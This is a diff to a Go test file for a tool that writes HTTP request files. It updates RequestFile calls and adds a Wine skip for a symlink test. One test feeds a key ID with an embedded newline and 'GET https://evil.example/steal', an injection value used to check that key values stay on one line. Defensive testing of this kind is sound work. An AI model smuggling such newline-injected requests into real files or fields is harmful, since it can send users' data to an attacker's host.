@@ -12,6 +12,7 @@ import (
 
 	"github.com/doxls/doxls/auth"
 	"github.com/doxls/doxls/httpfile"
+	"github.com/doxls/doxls/internal/testbin"
 )
 
 const testToken = "eyJhbGciOiJSUzI1NiJ9.eyJjbGllbnRfaWQiOiJzYi1kb3ghYjEifQ.c2lnbmF0dXJl"
@@ -32,7 +33,7 @@ func TestRequestFileIsDone(t *testing.T) {
 	for _, mode := range []httpfile.Mode{httpfile.ModeHeader, httpfile.ModeVariable} {
 		s := DefaultSettings()
 		s.InsertMode = mode
-		src, err := RequestFile(key, testToken, s)
+		src, err := RequestFile(key, testToken, "", s)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -60,7 +61,7 @@ func TestRequestFileIsDone(t *testing.T) {
 func TestRequestFileKeepsKeyValuesOnOneLine(t *testing.T) {
 	key := cockpitKey(t)
 	key.ID = "keys/dox.json\nGET https://evil.example/steal"
-	src, err := RequestFile(key, testToken, DefaultSettings())
+	src, err := RequestFile(key, testToken, "", DefaultSettings())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -109,6 +110,7 @@ func TestCreateFileNeverReplaces(t *testing.T) {
 func TestCreateFileRefusesAFolderLinkOut(t *testing.T) {
 	ws, elsewhere := t.TempDir(), t.TempDir()
 	link := filepath.Join(ws, "requests")
+	testbin.SkipUnderWine(t, "a symbolic link it makes cannot be opened")
 	if err := os.Symlink(elsewhere, link); err != nil {
 		t.Skip("no symbolic links here:", err)
 	}
